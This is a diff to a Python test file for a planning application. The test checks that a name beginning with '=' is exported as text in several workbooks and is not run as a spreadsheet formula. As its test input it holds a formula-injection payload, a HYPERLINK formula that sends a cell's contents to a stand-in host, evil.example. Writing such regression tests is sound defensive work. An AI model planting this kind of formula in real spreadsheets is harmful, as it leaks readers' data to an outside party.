@@ -106,7 +106,7 @@ def test_another_person_cannot_read_or_change_a_drafts_figures(member):
     assert other.post(f"/plan/amendments/{draft.pk}/figures/save/", {"payload": "x"}).status_code == 404
 
 
-def test_a_name_that_starts_with_equals_is_text_in_every_workbook_and_comes_back_unrefused(plan):
+def test_a_name_that_starts_with_equals_is_text_in_every_workbook_and_comes_back_unrefused(demo):
     """openpyxl writes a string starting with "=" as a formula: a name "=HYPERLINK(…)" ran in every
     reader's spreadsheet, and the committee's own unedited download was refused on upload as
     holding a formula. In the figures workbook, the plan's export and the year in review, it is text."""
@@ -117,6 +117,9 @@ def test_a_name_that_starts_with_equals_is_text_in_every_workbook_and_comes_back
     from plan.items import operational_years
     from plan.selectors import plan_export, version_in_force
 
+    from plan.models import Plan
+
+    plan = Plan.objects.get(code="ahvaz-1407")
     name = '=HYPERLINK("http://evil.example/?"&B3,"پسماند")'
     state = dict(version_state(version_in_force(plan)))
     state["IND3.1.1"] = {**state["IND3.1.1"], "name_fa": name}
